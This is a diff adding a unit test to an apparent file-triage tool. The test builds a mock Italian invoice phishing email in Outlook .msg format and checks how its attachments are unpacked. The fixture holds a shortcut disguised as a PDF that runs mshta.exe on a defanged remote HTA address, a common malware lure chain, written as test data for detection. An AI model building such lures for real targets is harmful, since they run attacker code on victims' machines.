@@ -114,3 +114,27 @@ describe('Outlook .msg messages', () => {
     await expect(bytesToDocument(doc, { name: 'old.doc', kind: 'file' })).rejects.toThrow(/OLE compound file .*97-2003/);
   });
 });
+
+describe('Outlook .msg messages in triage', () => {
+  it('triages the attachments as members, attached messages included, and says what the message is', async () => {
+    const { triageBytes } = await import('../triage/index.js');
+    const { writeZip, writeLnk } = await import('../../test/fixtures/samples/writers.js');
+    const zip = writeZip([{ name: 'Fattura.pdf.lnk', data: writeLnk({ target: 'C:\\Windows\\System32\\mshta.exe', args: 'hxxps://cdn-fatture.example.org/f.hta' }) }]);
+    const m = msg({
+      '/__properties_version1.0': properties(new Date('2026-10-14T08:30:00Z')),
+      '/__substg1.0_0037001F': u16('Fattura scaduta'),
+      '/__substg1.0_1000001F': u16('In allegato la fattura.'),
+      '/__attach_version1.0_#00000000/__substg1.0_3707001F': u16('Fattura.zip'),
+      '/__attach_version1.0_#00000000/__substg1.0_37010102': zip,
+      '/__attach_version1.0_#00000001/__substg1.0_3707001F': u16('inoltro.msg'),
+      '/__attach_version1.0_#00000001/__substg1.0_3701000D/__substg1.0_0037001F': u16('inner'),
+      '/__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000/__substg1.0_3707001F': u16('note.txt'),
+      '/__attach_version1.0_#00000001/__substg1.0_3701000D/__attach_version1.0_#00000000/__substg1.0_37010102': Buffer.from('see 45.86.12.34\n'),
+    });
+    const r = triageBytes(m, { path: 'phish.msg', now: 0 });
+    expect(r.format).toBe('office');
+    expect((r.details['msg'] as { subject: string }).subject).toBe('Fattura scaduta');
+    const members = r.details['members'] as { path: string; format: string }[];
+    expect(members.map((x) => [x.path, x.format])).toEqual([['phish.msg!/Fattura.zip', 'zip'], ['phish.msg!/inoltro.msg!/note.txt', 'text']]);
+  });
+});
